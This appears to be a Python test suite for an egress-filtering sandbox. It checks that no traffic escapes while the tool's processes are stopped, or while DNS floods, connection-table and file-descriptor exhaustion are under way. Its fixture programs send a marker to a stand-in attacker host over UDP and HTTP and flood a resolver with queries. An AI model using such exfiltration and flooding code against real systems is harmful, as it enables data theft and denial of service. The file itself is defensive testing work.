"""What happens to the tool may not become a way out: its processes stopped and starved, floods, tables
turned over, descriptors used up. After each nothing has got out, an honest fetch works again, and
nothing is left behind. (Kills: test_kill.py. Disk and rules: test_control.py. Clock: nothing that
decides reads the wall clock, see the last test.)"""

import os
import pathlib
import random
import re
import signal
import subprocess
import time

import remains
from rig import internet, space
from rig.cases import Case
from rig.guard import TOP, binary
from rig.internet import RESOLVER

POLICY = f"{RESOLVER}:53/udp\nwww.allowed.example:80\n"

# Sends the marker by what it knows, for some seconds; then fetches until that works.
PROGRAM = r"""
import os, socket, sys, threading, time
marker, attacker, seconds = sys.argv[1].encode(), sys.argv[2], float(sys.argv[3])
socket.setdefaulttimeout(8)
def attack():
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(marker, (attacker, 4444))
    except OSError: pass
    try:
        with socket.create_connection((attacker, 80), 1) as s: s.sendall(b"GET /" + marker + b" HTTP/1.1\r\n\r\n"); s.recv(100)
    except OSError: pass
def fetch():
    try:
        with socket.create_connection((socket.gethostbyname("www.allowed.example"), 80)) as s:
            s.sendall(b"GET / HTTP/1.0\r\nHost: www.allowed.example\r\n\r\n"); return b" 200 " in s.recv(100)
    except OSError: return False
assert fetch(), "before"
print("started", flush=True)
end = time.monotonic() + seconds
FAULT
while time.monotonic() < end: attack()
print("over", flush=True)
sys.stdin.readline()
end = time.monotonic() + 30
while not fetch():
    if time.monotonic() > end: sys.exit("an honest fetch does not work any more")
    time.sleep(0.2)
print("well", flush=True)
"""

DNS_FLOOD = r"""
def flood():
    query = b"\0\7\1\0\0\1\0\0\0\0\0\0\3www\7allowed\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for n in range(20000):
            try: s.sendto(query if n % 2 else marker, (sys.argv[4], 53))
            except OSError: pass
threads = [threading.Thread(target=flood) for _ in range(3)]
for t in threads: t.start()
for t in threads: t.join()
"""

# More connections than the kernel's tables of flows have room for, most of them refused by policy.
MANY = r"""
def many(count):
    for _ in range(count):
        s = socket.socket(); s.setblocking(False)
        try: s.connect((attacker, 80))
        except OSError: pass
        s.close()
for child in range(4):
    if os.fork() == 0: many(17500); os._exit(0)
for child in range(4): os.wait()
"""

HOLD = r"""
held = []
try:
    for _ in range(3000):
        s = socket.socket(); s.setblocking(False); held.append(s)
        try: s.connect((attacker, 80))
        except BlockingIOError: pass
except OSError: pass
time.sleep(1)
for s in held: s.close()
"""


def children(pid):
    found = {}
    for child in pathlib.Path(f"/proc/{pid}/task/{pid}/children").read_text().split():
        try:
            found[pathlib.Path(f"/proc/{child}/comm").read_text().strip()] = int(child)
        except OSError:
            pass
    return found


class Faults(Case):
    def setUp(self):
        self.marker = os.urandom(8).hex()
        self.before = remains.of_this_rig()
        self.oracle.mark()

    def start(self, seconds, fault="pass", wrapper=()):
        return subprocess.Popen(
            [*wrapper, str(binary("egress-run")), "--bytecode", str(self.machine.compile(POLICY)),
             "--log", "/dev/null", "--", "/usr/bin/python3", "-c", PROGRAM.replace("FAULT", fault),
             self.marker, internet.ATTACKER, str(seconds), RESOLVER],
            cwd=self.net.home, env=self.machine.sudo_environment, stdin=subprocess.PIPE,
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            preexec_fn=lambda: space.die_with_parent(signal.SIGTERM))

    def line(self, run, wanted):
        line = run.stdout.readline().strip()
        if line != wanted:
            run.terminate()
            self.fail(f"{line!r} instead of {wanted!r}: {run.communicate(timeout=30)[1]}")

    def finish(self, run):
        """The fault is over."""
        self.line(run, "over")
        self.oracle.fence()
        self.assertFalse(self.oracle.holds(self.marker.encode()), "the marker got out")
        self.assertEqual(self.oracle.packets(), [], "packets got out")
        run.stdin.write("\n")
        run.stdin.flush()
        self.line(run, "well")
        _, err = run.communicate(timeout=40)
        self.assertEqual(run.returncode, 0, err)
        self.assertEqual(remains.wait_for(self.before), [])

    def stopped(self, name):
        run = self.start(2)
        self.line(run, "started")
        pid = run.pid if name == "supervisor" else children(run.pid)[name]
        os.kill(pid, signal.SIGSTOP)
        try:
            time.sleep(2.5)  # the attacks go on meanwhile: this is the fault, no synchronisation
            self.oracle.fence()
            self.assertEqual(self.oracle.packets(), [], "packets got out while it was stopped")
        finally:
            os.kill(pid, signal.SIGCONT)
        self.finish(run)

    def test_the_worker_is_stopped(self):
        self.stopped("egress-worker")

    def test_the_supervisor_is_stopped(self):
        self.stopped("supervisor")

    def test_the_janitor_is_stopped(self):
        self.stopped("egress-janitor")

    def test_all_of_them_are_starved(self):
        """Stopped and let go again, at random, so that each has little of the time."""
        run = self.start(4)
        self.line(run, "started")
        dice, end = random.Random(6), time.monotonic() + 4
        while time.monotonic() < end:
            pids = [run.pid, *(pid for name, pid in children(run.pid).items()
                               if name.startswith("egress-"))]
            pid = dice.choice(pids)
            os.kill(pid, signal.SIGSTOP)
            time.sleep(dice.uniform(0.02, 0.2))
            os.kill(pid, signal.SIGCONT)
            time.sleep(0.01)
        self.finish(run)

    def test_a_flood_of_queries(self):
        run = self.start(0.5, DNS_FLOOD)
        self.line(run, "started")
        self.finish(run)

    def test_tables_are_turned_over(self):
        run = self.start(0.5, MANY)
        self.line(run, "started")
        self.finish(run)

    def test_descriptors_are_used_up(self):
        """The worker may open 300 files; ten times as many connections wait."""
        run = self.start(0.5, HOLD, wrapper=("prlimit", "--nofile=300:300", "setpriv",
                                             "--bounding-set=-sys_resource"))
        self.line(run, "started")
        self.finish(run)

    def test_nothing_that_decides_reads_the_wall_clock(self):
        """A clock that jumps cannot move a deadline or bring a binding back: only the log's time stamp
        and certificates know what time it is."""
        users = {str(path.relative_to(TOP)) for room in ("runtime", "lang/decide", "lang/vm")
                 for path in (TOP / room).rglob("*.[ch]")
                 if re.search(r"\bCLOCK_REALTIME\b|\btime\(NULL\)|\bgettimeofday\(", path.read_text())}
        self.assertEqual(users, {"runtime/log/log.c", "runtime/supervise/trust.c",
                                 "runtime/tls/stream.c"})
